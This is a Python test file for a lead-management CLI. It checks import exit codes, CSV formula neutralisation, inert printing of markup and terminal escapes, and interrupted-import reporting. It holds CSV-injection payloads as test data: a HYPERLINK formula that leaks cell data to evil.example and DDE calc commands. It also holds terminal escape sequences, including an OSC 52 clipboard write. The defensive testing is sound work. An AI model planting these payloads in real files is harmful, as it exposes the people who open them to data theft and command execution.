"""Hostile input over the CLI: imports that land nothing, CSV cells that are formulas.

Each case is a bug a user met: an import where every row was rejected exited 0 (a
nightly script saw success), and a lead named `=HYPERLINK(...)` became a live formula
in the spreadsheet that opened a report.
"""

from __future__ import annotations

from pathlib import Path

import orjson
import pytest
from typer.testing import CliRunner

from leadgate.cli.main import app

runner = CliRunner()


def run(*args: str) -> tuple[int, str, str]:
    r = runner.invoke(app, list(args))
    assert r.exception is None or isinstance(r.exception, SystemExit), r.exception
    return r.exit_code, r.stdout, r.stderr


@pytest.fixture
def db(sqlite_url: str) -> list[str]:
    assert run("init", "--db", sqlite_url)[0] == 0
    return ["--db", sqlite_url]


# -- 5. an import that lands nothing ---------------------------------------------------


def test_an_import_where_every_row_is_rejected_exits_1(db: list[str], tmp_path: Path) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text("email,company\nnot-an-email,A\nalso bad,B\n")
    code, out, err = run("lead", "import", str(bad), *db)
    assert code == 1, (out, err)
    assert "nothing imported: 2 of 2 rows rejected" in err
    code, out, err = run("lead", "import", str(bad), "--json", *db)
    assert code == 1
    assert orjson.loads(out)["rejected"] == 2  # the report is still printed

    events = tmp_path / "bad.jsonl"
    events.write_text('{"email": "", "type": "page_view"}\n{nope\n')
    code, out, err = run("event", "ingest", str(events), *db)
    assert code == 1, (out, err)
    assert "nothing imported: 2 of 2 lines rejected" in err


def test_partial_imports_and_reimports_still_exit_0(db: list[str], tmp_path: Path) -> None:
    mixed = tmp_path / "mixed.csv"
    mixed.write_text("email,company\nann@acme.com,Acme\nnot-an-email,B\n")
    assert run("lead", "import", str(mixed), *db)[0] == 0
    events = tmp_path / "ev.jsonl"
    events.write_text('{"id": "e1", "email": "ann@acme.com", "type": "page_view"}\n{nope\n')
    assert run("event", "ingest", str(events), *db)[0] == 0
    # Again: the good line is a duplicate now (already stored), which is not a failure.
    assert run("event", "ingest", str(events), *db)[0] == 0
    empty = tmp_path / "empty.csv"
    empty.write_text("email,company\n")
    assert run("lead", "import", str(empty), *db)[0] == 0


# -- 4. CSV formula injection ------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(path: Path) -> list[list[str]]:
    import csv

    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n"):
                # Only a plain number may start with a sign.
                float(cell)


def test_report_csv_neutralises_formulas_and_keeps_numbers(db: list[str], tmp_path: Path) -> None:
    for i, src in enumerate(HOSTILE):
        code, out, err = run(
            "lead", "add", "--email", f"l{i}@acme.com", "--set", f"source={src}", *db
        )
        assert code == 0, (out, err)
    out_csv = tmp_path / "sources.csv"
    code, out, err = run("report", "sources", "--csv", str(out_csv), *db)
    assert code == 0, (out, err)
    rows = _cells(out_csv)
    _no_formula(rows)
    firsts = {r[0] for r in rows[1:]}
    assert "'" + HOSTILE[0].lower() in firsts  # the breakdown lower-cases sources
    assert "'-2+3+cmd|' /c calc'!a0" in firsts
    # Counts are numbers, written as numbers (no quote).
    assert all(r[1].isdigit() for r in rows[1:])


def test_the_shared_helper_keeps_numbers_as_numbers(tmp_path: Path) -> None:
    import io

    from leadgate.csvout import dict_writer, safe_cell, writer

    assert safe_cell(-5) == -5 and safe_cell(-0.25) == -0.25 and safe_cell(None) is None
    assert safe_cell(True) is True
    for plain in ("-5", "+3.25", "-1e3", ".5", "Acme", "", "a=b", "ann+tag@acme.com"):
        assert safe_cell(plain) == plain
    for bad in [*HOSTILE, "-", "=", "-5 ", "- 5", "-5+1", "\n=1"]:
        assert safe_cell(bad) == "'" + bad
    buf = io.StringIO()
    w = writer(buf)
    w.writerow(["=x", -5, 1.5, "-5"])
    d = dict_writer(buf, ["@a", "b"])
    d.writeheader()
    d.writerow({"@a": "+1", "b": -2})
    assert buf.getvalue().splitlines() == ["'=x,-5,1.5,-5", "'@a,b", "+1,-2"]


def test_backtest_files_are_neutralised(tmp_path: Path) -> None:
    from types import SimpleNamespace

    from leadgate.cli.analytics import save_backtest

    res = SimpleNamespace(
        months=[{"month": "2026-05", "mqls_old": 3, "mqls_new": 1, "delta": -2}],
        changed=[
            {"lead_id": 7, "email": "=1+2@acme.com", "change": "lost", "days_shift": -1.5},
            {"lead_id": 8, "email": "-x@acme.com", "change": "lost", "days_shift": None},
        ],
        to_dict=lambda: {"totals": {}},
    )
    save_backtest(res, tmp_path / "bt")
    changed = _cells(tmp_path / "bt" / "changed.csv")
    _no_formula(changed)
    assert changed[1] == ["7", "'=1+2@acme.com", "lost", "-1.5"]
    assert changed[2][1] == "'-x@acme.com"
    assert _cells(tmp_path / "bt" / "monthly.csv")[1] == ["2026-05", "3", "1", "-2"]


def test_predict_csv_output_is_neutralised(tmp_path: Path) -> None:
    import numpy as np

    from leadgate.predictive.score import score_csv

    class Model:
        id_column = "id"

        def predict_proba(self, frame: object) -> object:
            return np.full(len(frame), 0.5)  # type: ignore[arg-type]

    src = tmp_path / "in.csv"
    src.write_text("id,x\n\"=cmd|' /C calc'!A0\",1\n-7,2\nplain,3\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    score_csv(Model(), src, out)
    rows = _cells(out)
    _no_formula(rows)
    assert rows[1][0] == "'=cmd|' /C calc'!A0"
    assert rows[2][0] == "-7" and rows[3][0] == "plain"


def test_a_utf16_csv_is_read_and_a_utf16_jsonl_refused_in_one_line(
    db: list[str], tmp_path: Path
) -> None:
    # Excel's "Unicode text" (UTF-16, tab-separated) is a CSV like any other.
    path = tmp_path / "contacts.csv"
    path.write_bytes("email\tcompany\nann@acme.com\tAcme Müller\n".encode("utf-16"))
    code, out, err = run("lead", "import", str(path), *db)
    assert code == 0, (out, err)
    assert "read as utf-16 (byte order mark), tab-separated" in out
    # JSON lines are UTF-8: read as UTF-8, every line would be rejected one by one.
    jsonl = tmp_path / "ev.jsonl"
    jsonl.write_bytes('{"email": "a@x.io", "type": "page_view"}\n'.encode("utf-16-be"))
    jsonl.write_bytes(b"\xfe\xff" + jsonl.read_bytes())
    code, _, err = run("event", "ingest", str(jsonl), *db)
    assert code == 2 and "UTF-16" in err


# -- the store's data printed as it is -------------------------------------------------

# Rich markup, a hyperlink and an emoji code: with markup on, the first stopped `lead
# show` with rich's MarkupError (a traceback, exit 1), the second became a terminal
# hyperlink, the third an emoji.
MARKUP = {
    "job_title": "[/bold] CTO [red]boss",
    "company": "[link=http://evil.example]Acme[/link]",
    "industry": ":smile: retail",
}


def test_markup_in_a_leads_fields_is_printed_as_typed(db: list[str]) -> None:
    sets = [a for k, v in MARKUP.items() for a in ("--set", f"{k}={v}")]
    assert run("lead", "add", "--email", "ann@acme.com", *sets, *db)[0] == 0
    code, out, err = run("stage", "set", "ann@acme.com", "mql", "--actor", "user:[/i]ann", *db)
    assert code == 0, (out, err)

    code, out, err = run("lead", "show", "ann@acme.com", *db)
    assert code == 0, (out, err)
    for value in MARKUP.values():
        assert value in out
    assert "user:[/i]ann" in out
    assert "😄" not in out

    code, out, err = run(
        "lead", "list", "--fields", "job_title,company,industry", "--stage", "mql", *db
    )
    assert code == 0, (out, err)
    # Table cells fold long values over lines; each value is there once unfolded.
    flat = "".join(c for c in out if c not in "│ \n")
    for value in MARKUP.values():
        assert value.replace(" ", "") in flat


# Escape sequences and a right-to-left override in a lead's fields (a form or a CSV put
# them there): printed as they were, they cleared the rep's screen, wrote the clipboard
# (OSC 52) and reversed the text that followed.
CONTROLS = {
    "job_title": "A\x1b]52;c;ZXZpbA==\x07B",
    "company": "\x1b[2JAcme\rEvil\x08",
    "industry": "retail\u202eliater",
}


def test_control_characters_in_data_are_written_out_not_sent_to_the_terminal(
    db: list[str], tmp_path: Path
) -> None:
    sets = [a for k, v in CONTROLS.items() for a in ("--set", f"{k}={v}")]
    assert run("lead", "add", "--email", "ann@acme.com", *sets, *db)[0] == 0
    code, out, err = run("lead", "show", "ann@acme.com", *db)
    assert code == 0, (out, err)
    for text in (out, err):
        assert not any(c in text for c in "\x1b\x07\r\x08\u202e"), repr(text)
    assert "A\\x1b]52;c;ZXZpbA==\\x07B" in out
    assert "\\x1b[2JAcme\\x0dEvil\\x08" in out
    assert "retail\\u202eliater" in out
    # --json stays JSON: the values come back exactly as stored.
    code, out, _ = run("lead", "show", "ann@acme.com", "--json", *db)
    assert code == 0
    attrs = orjson.loads(out)["attributes"]
    assert {k: attrs[k] for k in CONTROLS} == CONTROLS

    # An error line quoting the bad input, and an import report quoting a CSV cell.
    code, out, err = run("lead", "show", "\x1b[2Jann@acme.com", *db)
    assert code == 2
    assert "\x1b" not in err and "\\x1b[2Jann@acme.com" in err
    bad = tmp_path / "bad.csv"
    bad.write_text("email,company\nnot\x1b]0;pwned\x07-an-email,A\n", encoding="utf-8")
    code, out, err = run("lead", "import", str(bad), *db)
    assert code == 1
    assert "\x1b" not in err + out and "\\x1b]0;pwned\\x07" in err


# -- an import stopped part-way --------------------------------------------------------


def _stop_on_call(monkeypatch: pytest.MonkeyPatch, name: str, n: int, exc: BaseException) -> None:
    """Engine.`name` raises `exc` on its `n`th call (a Ctrl-C, a store error)."""
    from leadgate.engine.engine import Engine

    real = getattr(Engine, name)
    calls = [0]

    def wrapped(self: Engine, *a: object, **k: object) -> object:
        calls[0] += 1
        if calls[0] == n:
            raise exc
        return real(self, *a, **k)

    monkeypatch.setattr(Engine, name, wrapped)


def test_an_interrupted_lead_import_says_what_it_stored_and_a_rerun_completes_it(
    db: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    csv = tmp_path / "leads.csv"
    csv.write_text("email,company\n" + "".join(f"p{i}@c{i}.example,C{i}\n" for i in range(50)))
    imp = ["lead", "import", str(csv), "--batch-size", "10", *db]
    with monkeypatch.context() as m:
        _stop_on_call(m, "upsert_leads", 3, KeyboardInterrupt())
        code, out, err = run(*imp)
    assert code == 130, (out, err)
    assert "interrupted after 30 lines read: 20 leads created, 0 updated, 0 unchanged" in err
    assert "the file is stored up to line 21" in err  # the header is line 1
    assert "the same import again completes it" in err
    code, out, err = run("lead", "list", "--limit", "100", "--json", *db)
    assert len(orjson.loads(out)) == 20
    code, out, err = run(*imp)
    assert code == 0 and "50 rows: 30 leads created, 0 updated, 20 unchanged" in out


def test_an_event_import_stopped_by_the_store_says_what_it_stored(
    db: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import sqlite3

    events = tmp_path / "events.jsonl"
    events.write_text(
        "".join(
            orjson.dumps({"id": f"e{i}", "email": f"p{i}@c.example", "type": "page_view"}).decode()
            + "\n"
            for i in range(30)
        )
    )
    imp = ["event", "ingest", str(events), "--batch-size", "10", "--window", "10", *db]
    full = sqlite3.OperationalError("database or disk is full")
    with monkeypatch.context() as m:
        _stop_on_call(m, "ingest_counts", 2, full)
        code, out, err = run(*imp, "--json")
    assert code == 2, (out, err)
    report = orjson.loads(out)
    assert report["stopped"] == "error" and report["accepted"] == 10
    assert report["stored_through"] == 10
    lines = [x for x in err.splitlines() if x.strip()]
    assert lines[0].startswith("stopped after 20 lines read: 10 events stored")
    assert lines[1].startswith("error: the store's disk is full")
    code, out, err = run(*imp)
    assert code == 0 and "30 lines: 20 events accepted, 10 duplicates" in out, out
